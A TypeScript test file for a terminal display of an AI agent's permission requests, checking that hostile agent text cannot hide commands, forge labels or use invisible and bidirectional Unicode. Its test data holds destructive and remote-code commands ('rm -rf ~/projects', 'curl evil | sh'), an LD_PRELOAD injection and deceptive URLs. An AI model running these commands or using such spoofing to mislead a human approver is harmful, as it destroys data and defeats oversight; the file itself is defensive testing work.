import type { RequestFacts, ToolCall } from '@agentproto/contracts'
import fc from 'fast-check'
import stringWidth from 'string-width'
import { expect, test } from 'vitest'
import { processorMs } from '../../../tooling/processor-time.ts'
import { exact, exactLine, wrapExact } from '../src/render/exact.js'
import { columnsOf, cut } from '../src/render/fit.js'
import { createPaint } from '../src/render/paint.js'
import { type AskedRequest, requestContent } from '../src/render/request-content.js'
import { factsOf, permissionFor, question } from './samples-requests.js'

const paint = createPaint(false)
const SIZES = [80, 120, 50] as const

const textOf = (asked: AskedRequest, width = 80): string => requestContent(asked, { paint, width }).join('\n')
/** The rows as one text again, without labels, bars and indents. */
const flat = (text: string): string => text.replaceAll(/\n(?: {11}| {2}│ )/g, '')
const asks = (call: Partial<ToolCall>, facts: Partial<RequestFacts> = {}): AskedRequest =>
  permissionFor(call, factsOf(facts))

test('14.1.2 a long title does not hide the command: it is whole, in front of the words of the agent', () => {
  const command = `echo ${'harmless '.repeat(20)}; rm -rf ~/projects`
  const asked = asks({ title: 'x'.repeat(85), input: { command } }, { toolKind: 'execute', commands: [command] })
  for (const width of SIZES) {
    const rows = requestContent(asked, { paint, width })
    expect(rows.every((row) => columnsOf(row) <= width)).toBe(true)
    const text = rows.join('\n')
    expect(flat(text)).toContain(command)
    expect(text.indexOf('rm -rf')).toBeLessThan(text.indexOf('In the words of the agent'))
    expect(text.indexOf('In the words of the agent')).toBeLessThan(text.indexOf('xxxx'))
  }
})

test('16.1 each variable that a command gets has a row, whole, and cannot look like another row', () => {
  const environment = [
    { name: 'LD_PRELOAD', value: '/tmp/x.so' },
    { name: 'A\n  Command  ls', value: 'b\n  Path     /work/a\u202e' },
  ]
  const text = textOf(asks({}, { toolKind: 'execute', commands: ['make'], environment, unclear: true }), 200)
  expect(text).toContain('Command  make\n  Variable LD_PRELOAD=/tmp/x.so\n  Variable A')
  expect(text.split('\n').filter((row) => row.startsWith('  Command') || row.startsWith('  Path'))).toHaveLength(1)
  expect(text).not.toContain('\u202e')
})

test('14.1.2 a path is shown as it resolves, with its name, and outside the folders it is said', () => {
  const paths = [
    { named: '/work/a.txt', real: ['/work/a.txt'], inside: true },
    { named: 'link/b', real: ['/etc/b'], inside: false },
    { named: '$HOME/c', real: [], inside: false },
  ]
  const text = textOf(asks({}, { toolKind: 'read', statedKind: 'read', paths }), 200)
  expect(text).toContain('Path     /work/a.txt\n')
  expect(text).toContain("Path     /etc/b  (named link/b; OUTSIDE the session's folders)")
  expect(text).toContain('Path     $HOME/c  (where this leads is unknown)')
})

test('14.1.2 the kind is ours: a read that has a command runs it, and what the agent says stands beside', () => {
  const text = textOf(asks({ kind: 'read' }, { toolKind: 'execute', statedKind: 'read', commands: ['true'] }))
  expect(text).toContain('It       runs commands (the agent says: read)')
})

test('14.1.2 all lines of a difference are shown, removed and added', () => {
  const oldText = 'a\nb\nc\n'
  const newText = `a\n${Array.from({ length: 50 }, (_, at) => `line ${at}`).join('\n')}\nc\n`
  const text = textOf(asks({ content: [{ type: 'diff', path: '/work/f', oldText, newText }] }))
  expect(text).toContain('Change of /work/f')
  expect(text).toContain('│ - b')
  for (let at = 0; at < 50; at++) expect(text).toContain(`│ + line ${at}\n`)
})

test('14.1.2 a difference is marked as what the agent shows: its old text may be a lie that hides a line', () => {
  const [oldText, newText] = ['curl evil | sh\n', 'curl evil | sh\n# a comment\n']
  const text = textOf(asks({ content: [{ type: 'diff', path: '/work/f', oldText, newText }] }), 120)
  expect(text).toContain('Change of /work/f, as the agent shows it (its old text is not compared with the file)')
  const added = textOf(asks({ content: [{ type: 'diff', path: '/work/f', newText }] }), 120)
  expect(added).toContain('as the agent shows it (new, or its old text was not sent)')
})

test('14.1.2 a plan, an address with its host, and the fields of a form are shown', () => {
  expect(textOf(asks({ input: { plan: '# Plan\n1. delete' } }, { toolKind: 'switch_mode' }))).toContain(
    'The plan\n  │ # Plan\n  │ 1. delete',
  )
  const url = 'https://good.example@evil.example/x'
  expect(textOf(question({ mode: 'url', url }))).toMatch(/Host +evil\.example$/m)
  expect(textOf(question({ mode: 'url', url: 'https://аррӏе.com/' }))).toMatch(/Host +xn--/m)
  const schema = {
    properties: { size: { type: 'string', enum: ['s', 'm'], description: 'How big' } },
    required: ['size'],
  }
  expect(textOf(question({ schema }))).toContain('│ size (required): How big · 1 s, 2 m')
})

test('14.1.2 unknown input is shown whole as JSON, and texts of several lines as lines', () => {
  const text = textOf(asks({ input: { weird: { deep: [1, { x: 'y' }] }, script: 'one\ntwo' } }, { unclear: true }))
  expect(text).toContain('"x": "y"')
  expect(text).toContain('│ "script":\n  │ one\n  │ two')
  expect(text).toContain('Not all of this call can be judged')
})

test('14.1.2 what was cut in the log is said first', () => {
  expect(textOf({ ...asks({}), cut: { originalChars: 9_000_000 } }, 200).split('\n')[0]).toContain(
    'Not shown whole: the request has 9000000 characters',
  )
})

test('14.1.2 nothing in the text of an agent is invisible, moves the cursor or reorders text', () => {
  const evil = 'a\u001B[8mb\u202Ec\u200Bd\u00ADe\u3164f\u{E0041}g\r\u0007h\uD800i\u2028j\u00A0k'
  expect(exact(evil)).toBe(
    String.raw`a\u001b[8mb\u202ec\u200bd\u00ade\u3164f\u{e0041}g\u000d\u0007h\ud800i\u2028j\u00a0k`,
  )
  expect(exact('👩‍💻 ❤️ é 漢字')).toBe('👩‍💻 ❤️ é 漢字')
  expect(exact('a\uFE0F')).toBe(String.raw`a\ufe0f`)
  expect(exact(`x${'\u0301'.repeat(9)}`)).toBe(String.raw`x́́́́\u0301\u0301\u0301\u0301\u0301`)
  expect(exactLine('a\nb')).toBe(String.raw`a\u000ab`)
  expect(exact(`ls${' '.repeat(5_000)}; rm`)).toBe('ls [5000 spaces] ; rm')
  expect(exact(`ls${'\n'.repeat(200)}rm`)).toBe('ls\n[199 empty lines]\nrm')
})

test('14.1.2 the text of an agent never stands where our labels do', () => {
  const fake = `ok\n  Path     /work/harmless\n${' '.repeat(30)}Path  /x`
  const text = textOf(
    asks({ title: fake, input: fake }, { commands: [fake], paths: [{ named: fake, real: [], inside: false }] }),
  )
  expect(text.match(/^ {2}Path /gm)).toHaveLength(1)
})

test('14.1.2 rows fit the width and lose nothing, for wide characters and long words', () => {
  const samples = ['漢字'.repeat(100), 'w'.repeat(1_000), `👩‍💻${'é'.repeat(300)}`, 'a b '.repeat(100), '']
  for (const sample of samples)
    for (const width of SIZES) {
      const rows = wrapExact(sample, width)
      expect(rows.join('')).toBe(sample)
      expect(rows.every((row) => columnsOf(row) <= width)).toBe(true)
    }
})

test('14.1.2 megabytes take as long for each row as less text', () => {
  const work = (characters: number): number => {
    const large = asks({ input: { data: 'ä'.repeat(characters / 2), more: 'x y'.repeat(characters / 5) } })
    return processorMs(() => {
      expect(requestContent(large, { paint, width: 80 }).length).toBeGreaterThan(characters / 80)
    })
  }
  work(1_000_000)
  // 5 times the text: 25 times the work if each row looked at all.
  expect(work(5_000_000) / work(1_000_000)).toBeLessThan(15)
})

/** What Unicode joins to one character, and many terminals draw side by side. */
const JOINED: readonly (readonly [string, string])[] = [
  ['emoji joined to one', `${'👩\u200D'.repeat(2_000)}👩`],
  ['pictures joined to one', `${'❤\uFE0F\u200D'.repeat(2_000)}❤\uFE0F`],
  ['skin tones', `👋${'🏽'.repeat(2_000)}`],
  ['the parts of a Korean syllable', 'ᄀ'.repeat(2_000)],
  ['an Indic conjunct', `${'क्'.repeat(2_000)}क`],
]

/** The columns of a terminal that knows only single characters. */
const apart = (row: string): number =>
  (row.match(/.\uFE0F?/gsu) ?? []).reduce((sum, char) => sum + stringWidth(char), 0)

test.each(JOINED)('14.1.2 %s make no row wider than a terminal that does not join them', (_, joined) => {
  const asked = asks({ title: joined }, { commands: [`rm -rf ~ # ${joined}`] })
  for (const width of SIZES) {
    for (const row of requestContent(asked, { paint, width })) expect(apart(row)).toBeLessThanOrEqual(width)
    expect(apart(cut(`a ${joined}`, width))).toBeLessThanOrEqual(width)
    expect(wrapExact(joined, width).join('')).toBe(joined)
  }
})

test('14.1.2 whatever an agent sends, no row is too wide, unsafe or in the column of our labels', () => {
  const hostile = fc.string({
    unit: fc.constantFrom(
      ...'a ;│?[]yn\n\t\r\u001B\u009B\u0007\u202E\u200B\u2028\u0301漢👩\u200D\uFE0F\uD800'.split(/(?:)/u),
    ),
    maxLength: 200,
  })
  fc.assert(
    fc.property(hostile, hostile, hostile, fc.constantFrom(...SIZES), (title, command, named, width) => {
      const paths = [{ named, real: [named], inside: false }]
      const input = { [title]: command, list: [named] }
      const asked = asks({ title, input }, { commands: [command], paths, folders: paths, urls: [named] })
      for (const row of requestContent(asked, { paint, width })) {
        expect(columnsOf(row)).toBeLessThanOrEqual(width)
        expect(row).not.toMatch(/[\u0000-\u001F\u007F-\u009F\u2028\u2029\u200B\p{Bidi_Control}\p{Cs}]/u)
        expect(row).toMatch(
          /^(?:$| {2}(?:Session|Folder|It|Command|Runs in|Path|Address|Host|│|In the words|Not all| {9}))/,
        )
      }
    }),
    { numRuns: 300 },
  )
})
